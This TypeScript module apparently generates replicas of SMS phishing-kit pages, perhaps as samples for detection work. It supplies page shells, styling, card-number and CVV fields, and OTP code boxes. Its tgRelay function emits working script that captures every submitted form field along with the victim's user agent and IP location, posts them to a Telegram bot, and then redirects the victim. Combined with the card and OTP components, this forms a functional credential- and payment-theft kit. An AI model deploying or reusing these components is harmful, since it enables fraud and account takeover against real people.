/** Shared furniture for the zu- pages: document shell, stylesheets, small logos, common scripts. */

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

export function doc(o: { title: string; lang?: string; dir?: 'rtl' | 'ltr'; css?: string; head?: string; body: string }): string {
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'en'}"${o.dir ? ` dir="${o.dir}"` : ''}>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1, shrink-to-fit=no">
<title>${o.title}</title>
${o.head ?? ''}
<style>${o.css ?? ''}</style>
</head>
<body>
${o.body}
</body>
</html>`;
}

/** A mobile-first card layout most SMS kits and many real mobile pages share. */
export const mobileCss = (accent: string, bg = '#f4f5f7'): string => `
*{box-sizing:border-box}body{margin:0;background:${bg};font-family:-apple-system,"Segoe UI",Roboto,"Helvetica Neue",Arial,sans-serif;color:#1d1f23}
header.top{background:${accent};color:#fff;padding:14px 18px;display:flex;align-items:center;gap:10px}
header.top .brand{font-weight:700;font-size:19px;letter-spacing:.2px}
main.wrap{max-width:440px;margin:22px auto;padding:0 14px}
.card{background:#fff;border-radius:10px;box-shadow:0 2px 10px rgba(0,0,0,.07);padding:22px 20px;margin-bottom:16px}
.card h1,.card h2{margin:0 0 10px;font-size:20px}
.card p{font-size:14px;line-height:1.5;color:#4a4f57}
label{display:block;font-size:13px;color:#5b606a;margin:12px 0 4px}
input,select{width:100%;padding:12px;border:1px solid #cfd3da;border-radius:7px;font-size:15px;background:#fff}
input:focus{outline:none;border-color:${accent};box-shadow:0 0 0 3px ${accent}22}
.row{display:flex;gap:10px}.row>div{flex:1}
button,.btn{display:block;width:100%;margin-top:18px;padding:13px;border:0;border-radius:7px;background:${accent};color:#fff;font-size:16px;font-weight:600;cursor:pointer;text-align:center;text-decoration:none}
.muted{font-size:12px;color:#8a8f98}.alert{background:#fff4e5;border-left:4px solid #f5a623;padding:10px 12px;font-size:13px;border-radius:4px;margin:10px 0}
.err{background:#fdecea;border-left:4px solid #d93025;padding:10px 12px;font-size:13px;border-radius:4px;margin:10px 0;display:none}
footer.foot{text-align:center;font-size:12px;color:#8a8f98;padding:24px 10px}
.spinner{width:34px;height:34px;border:4px solid #e3e5e8;border-top-color:${accent};border-radius:50%;animation:sp 1s linear infinite;margin:20px auto}
@keyframes sp{to{transform:rotate(360deg)}}`;

/** A desktop site layout: top bar, nav, content, footer. */
export const siteCss = (accent: string): string => `
*{box-sizing:border-box}body{margin:0;font-family:"Segoe UI",Roboto,Arial,sans-serif;color:#222;background:#fff}
a{color:${accent}}
.bar{background:${accent};color:#fff}.bar .in,.nav .in,.content,.sitefoot .in{max-width:1120px;margin:0 auto;padding:0 20px}
.bar .in{display:flex;justify-content:space-between;align-items:center;height:64px}.bar a{color:#fff;text-decoration:none;margin-left:18px;font-size:14px}
.logo{font-size:24px;font-weight:800;letter-spacing:-.5px;color:#fff;text-decoration:none}
.nav{border-bottom:1px solid #e6e6e6}.nav .in{display:flex;gap:22px;height:46px;align-items:center;font-size:14px}.nav a{color:#333;text-decoration:none}
.content{padding:28px 20px 40px}.grid{display:grid;grid-template-columns:2fr 1fr;gap:30px}
.panel{border:1px solid #e3e3e3;border-radius:8px;padding:22px}.panel h2{margin-top:0}
label{display:block;font-size:13px;margin:12px 0 4px;color:#555}input,select,textarea{width:100%;padding:10px;border:1px solid #c9c9c9;border-radius:5px;font-size:15px}
button,.btn{margin-top:16px;padding:11px 22px;background:${accent};color:#fff;border:0;border-radius:5px;font-size:15px;cursor:pointer;text-decoration:none;display:inline-block}
table{border-collapse:collapse;width:100%}td,th{border-bottom:1px solid #eee;padding:8px;text-align:left;font-size:14px}
.sitefoot{background:#1f2328;color:#aab;margin-top:40px;font-size:13px}.sitefoot .in{padding:26px 20px}.sitefoot a{color:#cdd}
pre,code{font-family:Consolas,Menlo,monospace;font-size:13px}pre{background:#f6f8fa;border:1px solid #e1e4e8;padding:12px;overflow:auto;border-radius:6px}
article p{line-height:1.7;font-size:16px}blockquote{border-left:4px solid #ccc;margin:14px 0;padding:6px 14px;color:#555;background:#fafafa}`;

/** Simple inline SVG mark: coloured rounded square with letters. */
export const mark = (bg: string, letters: string, fg = '#fff', size = 36): string =>
  `<svg width="${size}" height="${size}" viewBox="0 0 36 36" aria-hidden="true"><rect rx="8" width="36" height="36" fill="${bg}"/><text x="18" y="24" font-family="Arial" font-size="${letters.length > 2 ? 11 : 15}" font-weight="700" fill="${fg}" text-anchor="middle">${letters}</text></svg>`;

/** The Telegram bot relay many of our reported kits use; the token/chat differ per kit. */
export function tgRelay(o: { form: string; token: string; chat: string; next: string; prefix?: string; ip?: boolean }): string {
  return `<script>
(function(){
  var T="${o.token}",C="${o.chat}";
  var f=document.getElementById("${o.form}");
  f.addEventListener("submit",function(e){
    e.preventDefault();
    var msg="${o.prefix ?? '🔔 New'}\\n";
    new FormData(f).forEach(function(v,k){msg+=k+": "+v+"\\n"});
    msg+="UA: "+navigator.userAgent;
    var go=function(){
      fetch("https://api.telegram.org/bot"+T+"/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:C,text:msg})})
      .finally(function(){location.href="${o.next}"});
    };
    ${o.ip ? `fetch("https://ipapi.co/json/").then(function(r){return r.json()}).then(function(j){msg+="\\nIP: "+j.ip+" "+j.country_name}).catch(function(){}).finally(go);` : 'go();'}
  });
})();
</script>`;
}

/** Card fields with a Luhn check and auto-spacing, as both checkouts and kits use them. */
export const cardFields = (l: { num: string; exp: string; cvv: string; name?: string }): string => `
${l.name ? `<label for="cname">${l.name}</label><input id="cname" name="cardholder" autocomplete="cc-name" required>` : ''}
<label for="ccn">${l.num}</label><input id="ccn" name="card_number" inputmode="numeric" autocomplete="cc-number" maxlength="19" placeholder="0000 0000 0000 0000" required>
<div class="row"><div><label for="exp">${l.exp}</label><input id="exp" name="card_exp" autocomplete="cc-exp" placeholder="MM/YY" maxlength="5" required></div>
<div><label for="cvv">${l.cvv}</label><input id="cvv" name="card_cvv" inputmode="numeric" autocomplete="cc-csc" maxlength="4" required></div></div>`;

export const cardJs = `<script>
document.addEventListener("input",function(e){var t=e.target;if(t.id==="ccn"){var v=t.value.replace(/\\D/g,"").slice(0,16);t.value=v.replace(/(.{4})/g,"$1 ").trim()}
if(t.id==="exp"){var d=t.value.replace(/\\D/g,"").slice(0,4);t.value=d.length>2?d.slice(0,2)+"/"+d.slice(2):d}});
function luhn(n){n=n.replace(/\\D/g,"");var s=0,a=false;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9}s+=d;a=!a}return n.length>=13&&s%10===0}
</script>`;

/** OTP boxes with auto-advance. */
export const otpBoxes = (n = 6, name = 'otp'): string =>
  `<div class="otp" style="display:flex;gap:8px;justify-content:center">${Array.from({ length: n }, (_, i) => `<input class="o" maxlength="1" inputmode="numeric" style="width:42px;text-align:center;font-size:22px" aria-label="digit ${i + 1}">`).join('')}</div><input type="hidden" name="${name}" id="otpv">
<script>var bx=[].slice.call(document.querySelectorAll(".o"));bx.forEach(function(b,i){b.addEventListener("input",function(){if(b.value&&bx[i+1])bx[i+1].focus();document.getElementById("otpv").value=bx.map(function(x){return x.value}).join("")})});</script>`;

/** Countdown "code expires in" text. */
export const countdown = (id: string, secs: number): string => `<script>(function(){var s=${secs},el=document.getElementById("${id}");var t=setInterval(function(){s--;if(s<0){clearInterval(t);return}el.textContent=("0"+Math.floor(s/60)).slice(-2)+":"+("0"+s%60).slice(-2)},1000)})();</script>`;
